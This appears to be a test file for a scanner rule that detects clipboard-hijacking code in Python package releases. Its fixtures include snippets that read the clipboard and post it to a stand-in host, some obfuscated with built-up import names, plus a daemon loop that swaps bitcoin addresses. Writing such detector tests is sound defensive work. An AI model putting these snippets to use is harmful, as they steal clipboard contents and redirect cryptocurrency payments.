import { clipboardHijack } from '../../src/rules/clipboard-hijack.js';
import { wheel } from '../support/wheel.js';
import { releaseTest } from './pipeline.js';

const init = (source: string) => wheel({ 'demo/__init__.py': source });
const updated = (source: string) => ({ base: wheel(), head: init(source) });
const inFunction = (source: string) => `def go():\n${source.replaceAll(/^(?=.)/gmu, '    ')}`;
const SENT = 'import pyperclip, requests\nrequests.post("https://a.example.invalid", data=pyperclip.paste())\n';
// No wallet's: the alphabet in order.
const ADDRESS = 'bc1qabcdefghjklmnpqrstuvwxyz0123456789abc';
const CLIPPER = `import pyperclip, re, threading, time\ndef loop():\n    while True:\n        if re.match("^bc1", pyperclip.paste()):\n            pyperclip.copy("${ADDRESS}")\n        time.sleep(1)\n`;
const started = 'threading.Thread(target=loop, daemon=True).start()\n';

releaseTest(clipboardHijack, {
  flags: [
    { name: 'sent', given: updated(SENT), level: 'block', says: 'reads the clipboard' },
    { name: 'sent, when called', given: updated(inFunction(SENT)), level: 'block' },
    {
      name: 'reached by names put together',
      given: updated(
        'import requests\nm = __import__("pyper" + "clip")\nf = getattr(m, "pas" + "te")\nrequests.post("https://a.example.invalid", data={"c": f()})\n',
      ),
      level: 'block',
    },
    {
      name: 'tkinter, by a class',
      given: updated(
        'import tkinter as tk, urllib.request\nclass App(tk.Tk):\n    def leak(self):\n        urllib.request.urlopen("https://a.example.invalid/?c=" + self.clipboard_get())\nApp().leak()\n',
      ),
      level: 'block',
    },
    {
      name: 'Windows’ own function by ctypes',
      given: updated(
        'import ctypes, requests\nu = ctypes.WinDLL("user32")\nu.OpenClipboard(0)\nh = u.GetClipboardData(13)\nrequests.post("https://a.example.invalid", data=ctypes.c_wchar_p(h).value)\n',
      ),
      level: 'block',
    },
    {
      name: 'a command, through a helper',
      given: updated(
        'import subprocess, requests\ndef read():\n    return subprocess.check_output(["pbpaste"]).decode()\nrequests.post("https://a.example.invalid", data=read())\n',
      ),
      level: 'block',
      says: 'pbpaste',
    },
    {
      name: 'PowerShell, read on import',
      given: updated(
        'import subprocess\nT = subprocess.run(["powershell", "-c", "Get-Clipboard"], capture_output=True).stdout\n',
      ),
      level: 'block',
    },
    { name: 'an address in its place', given: updated(`${CLIPPER}${started}`), level: 'block', says: ADDRESS },
    { name: 'an address in its place, when called', given: updated(CLIPPER), level: 'block' },
    {
      name: 'something unknown in its place, unasked',
      given: updated(
        'import clipboard, demo.data as d, threading\ndef loop():\n    for _ in d.ever():\n        clipboard.copy(d.swap(clipboard.paste()))\nthreading.Timer(1, loop).start()\n',
      ),
      level: 'block',
      says: 'beside it,',
    },
    {
      name: 'in a file that cannot be parsed',
      given: updated(`${SENT}print "old"\n)))\n`),
      level: 'block',
    },
    {
      name: 'replaced on import, by no address',
      given: updated('import pyperclip\npyperclip.copy("\\n".join(MESSAGES))\n'),
      level: 'warn',
    },
    {
      name: 'read on import, in a first release',
      given: { head: init('import pyperclip\nT = pyperclip.paste()\n') },
      level: 'warn',
    },
    { name: 'sent, in a first release, when called', given: { head: init(inFunction(SENT)) }, level: 'warn' },
  ],
  allows: [
    {
      name: 'a clipboard library',
      given: updated(
        'import subprocess, shutil\ndef copy(text):\n    subprocess.Popen(["xclip", "-selection", "c"], stdin=subprocess.PIPE).communicate(text.encode())\ndef paste():\n    return subprocess.Popen(["xclip", "-selection", "c", "-o"], stdout=subprocess.PIPE).communicate()[0]\nif shutil.which("xclip") and subprocess.call(["which", "xclip"]) == 0:\n    BACKEND = "xclip"\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a data frame from the clipboard',
      given: updated('import pandas as pd\ndef table():\n    return pd.read_clipboard(sep="\\t")\n'),
      atMost: 'note',
    },
    { name: 'a copy button', given: updated('import pyperclip\ndef on_click(text):\n    pyperclip.copy(text)\n') },
    {
      name: 'a password manager that copies',
      given: updated('import subprocess\ndef put(secret):\n    subprocess.run("pbcopy", input=secret, text=True)\n'),
    },
    {
      name: 'an editor that copies and pastes',
      given: updated(
        'import tkinter as tk\nclass Editor(tk.Text):\n    def paste(self):\n        self.insert("end", self.clipboard_get())\n    def copy(self, text):\n        self.clipboard_append(text)\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a Qt program',
      given: updated(
        'from PyQt5.QtWidgets import QApplication\ndef text():\n    return QApplication.clipboard().text()\n',
      ),
      atMost: 'note',
    },
    {
      name: 'a variable of that name',
      given: updated('import requests\nclipboard = []\ndef send(url):\n    requests.post(url, json=clipboard)\n'),
    },
    { name: 'what the base did too', given: { base: init(SENT), head: init(`V = 2\n${SENT}`) } },
  ],
});
